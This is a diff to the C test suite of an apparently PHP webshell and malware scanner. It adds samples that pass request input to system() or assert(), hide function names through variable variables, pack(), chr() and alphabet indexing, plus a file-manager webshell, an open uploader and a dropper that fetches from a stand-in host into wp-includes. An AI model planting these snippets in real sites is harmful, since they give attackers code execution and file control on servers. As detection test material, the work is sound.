@@ -131,6 +131,16 @@ test_taint(void)
 	/* assigned by =, foreach, list(), preg_match's output: the file's own */
 	T_CLEAN("x.php", "<?php $c = 'uptime'; system($c); foreach ($cmds as $d) { exec($d, $out); }"
 			 " list($e) = explode(' ', $x); passthru($e); preg_match('/x/', $y, $m); shell_exec($m[0]);");
+	/* a function's variables are its own: $id from the request in one, a path in another */
+	T_CLEAN("x.php", "<?php\nfunction up() { $id = $_POST['id']; return clean($id); }\n"
+			 "function keep($id) { $old = path_of($id); $new = path_of($id, time()); copy($old, $new); }\n");
+	T_HAS("x.php", "<?php\nfunction run() { $c = $_POST['c']; system($c); }\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	/* bodies without braces: each a statement of its own */
+	T_HAS("x.php", "<?php\nif (isset($_POST['x'])) $c = $_POST['x'];\nsystem($c);", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\n$p = $_POST['p'];\nfor ($i = 0; $i < strlen($p); $i += 2) $b .= chr(hexdec(substr($p, $i, 2)));\n"
+		       "assert($b);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
+	T_CLEAN("x.php", "<?php\nif ($debug) $c = 'uptime';\nelse $c = 'date';\nsystem($c);");
 	/* a sanitizer breaks the flow */
 	T_CLEAN("x.php", "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');");
 	T_CLEAN("x.php", "<?php system('ls -l ' . intval($_GET['n']));");
@@ -148,6 +158,23 @@ test_obfuscation(void)
 	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 3);
 	T_HAS("x.php", "<?php eval(str_rot13(gzinflate(str_rev(base64_decode('AAAA')))));",
 	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 1);
+	/* a variable named by a variable: ${$a} calls what $Acc holds */
+	T_HAS("x.php", "<?php\n$A = 'Acc';\n$x = 'as'; $y = 'sert';\n$Acc = $x . $y;\n${$A}($_POST['z']);",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
+	T_CLEAN("x.php", "<?php $n = 'title'; $title = 'Home'; echo ${$n}; $f = 'strtoupper'; echo ${'f'}($title);");
+	/* names given as their bytes to pack('c*', ...) */
+	T_HAS("x.php", "<?php\n$f = pack('c*', 0x73, 0x79, 115, 116, 0x65, 0x6d);\n$f('id');", PHPSCAN_OBFUSCATED_CALL,
+	      PHPSCAN_HIGH, 2);
+	T_CLEAN("x.php", "<?php $hdr = pack('C*', 0x89, 0x50, 0x4e, 0x47); $n = pack('N', 42); echo $hdr . $n;");
+	/* a pattern spelled in chr(): its modifiers are hidden too */
+	T_HAS("x.php", "<?php\n$p = $_POST;\n$k = 'q1w2';\npreg_replace(chr(47) . $k . chr(47) . chr(101), $p['c'], $k);",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
+	/* names picked letter by letter from an alphabet of the file's own */
+	T_HAS("x.php", "<?php\n$ab = 'abcdefghijklmnopqrstuvwxyz0123456789';\n$d = $ab[3] . $ab{4} . $ab[2] . $ab[14] . $ab[3] . $ab[4];\n"
+		       "$n = $ab[1] . $ab[0] . $ab[18] . $ab[4] . $ab[32] . $ab[30] . '_' . $d;\necho $n($blob);",
+	      PHPSCAN_OBFUSCATED_CALL, PHPSCAN_HIGH, 5);
+	T_CLEAN("x.php", "<?php\n$hex = '0123456789abcdef';\n$id = $hex[3] . $hex[10] . $hex[15];\necho $id;\n"
+			 "$v = explode('.', $ver);\n$major = $v[0] . $v[1];\n");
 	/* names hidden by escapes, rot13, reversal, concatenation */
 	T_HAS("x.php", "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f('id');", PHPSCAN_OBFUSCATED_CALL,
 	      PHPSCAN_HIGH, 1);
@@ -291,6 +318,12 @@ test_benign(void)
 	T_CLEAN("x.php", "<?php $out = preg_replace('/\\s+/', ' ', $_POST['text']); echo htmlspecialchars($out);");
 	T_CLEAN("x.php", "<?php $tpl = compile($src); eval('?>' . $tpl);");
 	T_CLEAN("x.php", "<?php if (isset($_GET['p'])) { $page = basename($_GET['p']); include 'pages/' . $page . '.php'; }");
+	/* PHP 8 union types are words joined by |, not a packer's strings */
+	T_CLEAN("x.php", "<?php\ninterface L {\n  function a(string|\\Stringable $h);\n  function b(int|float|string|bool|array $v);\n"
+			 "  function c(float | int | string | self $v): static|null;\n  function d(Foo|Bar|iterable $x);\n"
+			 "  function e(mixed $m): int|false;\n}\n");
+	/* assert() of a comparison tests a value, it runs no code */
+	T_CLEAN("x.php", "<?php $bin = hex2bin($hex); assert($bin !== false); assert(strlen(base64_decode($s)) > 0);");
 	T_CLEAN("x.php", "<?php $cb = $this->hooks[$name]; $cb($args); usort($a, function ($x, $y) { return $x <=> $y; });");
 }
 
@@ -470,6 +503,50 @@ test_yara_and_verdict(void)
 		T_OK(analyse_buf(a, (const uint8_t *)s, sizeof(s) - 1, "d.php", &r) == 0);
 		T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
 		T_EQ_STR(r.f[0].rule, "wsid_input_exec_text");
+	}
+	/* capabilities a page gives its visitor: a file manager, an upload page */
+	{
+		static const char fm[] =
+			"<?php\n$d = isset($_GET['d']) ? $_GET['d'] : '.';\n"
+			"if (isset($_POST['save'])) { $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['t']); fclose($h); }\n"
+			"if (isset($_GET['rm'])) { unlink($d . '/' . $_GET['rm']); }\n"
+			"foreach (scandir($d) as $e) { echo \"<a href='?d=$d/$e'>$e</a><br>\"; }\n"
+			"if (isset($_GET['e'])) { echo '<form method=post><input name=f value=\"' . $_GET['e'] . '\">'\n"
+			"  . '<textarea name=t>' . htmlspecialchars(file_get_contents($_GET['e'])) . '</textarea>'\n"
+			"  . '<input type=submit name=save></form>'; }\n";
+		static const char up[] =
+			"<html><body><form method=\"post\" enctype=\"multipart/form-data\">\n"
+			"<input type=\"file\" name=\"u\"><input type=\"submit\"></form>\n"
+			"<?php\nif (!empty($_FILES['u'])) {\n  $to = $_POST['dir'] . $_FILES['u']['name'];\n"
+			"  if (move_uploaded_file($_FILES['u']['tmp_name'], $to)) echo \"ok: $to\";\n}\n?></body></html>\n";
+		char app[sizeof(up) + 64];
+		size_t i;
+
+		T_OK(analyse_buf(a, (const uint8_t *)fm, sizeof(fm) - 1, "fm.php", &r) == 0);
+		T_CHECK(r.verdict == ANALYSE_SUSPICIOUS || r.verdict == ANALYSE_MALICIOUS, "fm.php: verdict %d", r.verdict);
+		for (i = 0; i < r.n && strcmp(r.f[i].cls, "file-manager") != 0; i++)
+			;
+		T_CHECK(i < r.n, "fm.php: no file-manager finding");
+		T_OK(analyse_buf(a, (const uint8_t *)up, sizeof(up) - 1, "up.php", &r) == 0);
+		T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
+		for (i = 0; i < r.n && strcmp(r.f[i].cls, "tiny-uploader") != 0; i++)
+			;
+		T_CHECK(i < r.n, "up.php: no tiny-uploader finding");
+		/* a dropper fetching through a helper of its own */
+		{
+			static const char dr[] =
+				"<?php\nfunction grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
+				" return curl_exec($c); }\n$t = grab('https://example.invalid/p/abc.txt');\n"
+				"$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-x.php', 'w');\nfwrite($h, $t);\n";
+
+			T_OK(analyse_buf(a, (const uint8_t *)dr, sizeof(dr) - 1, "dr.php", &r) == 0);
+			T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
+			T_EQ_STR(r.n > 0 ? r.f[0].cls : "", "remote-dropper");
+		}
+		/* the same form inside an application (it includes its own code): no finding */
+		snprintf(app, sizeof(app), "<?php require_once __DIR__ . '/lib/init.php'; ?>\n%s", up);
+		T_OK(analyse_buf(a, (const uint8_t *)app, strlen(app), "media.php", &r) == 0);
+		T_EQ_INT(r.verdict, ANALYSE_CLEAN);
 	}
 	T_OK(analyse_buf(a, (const uint8_t *)"<?php echo 'hello';", 19, "b.php", &r) == 0);
 	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
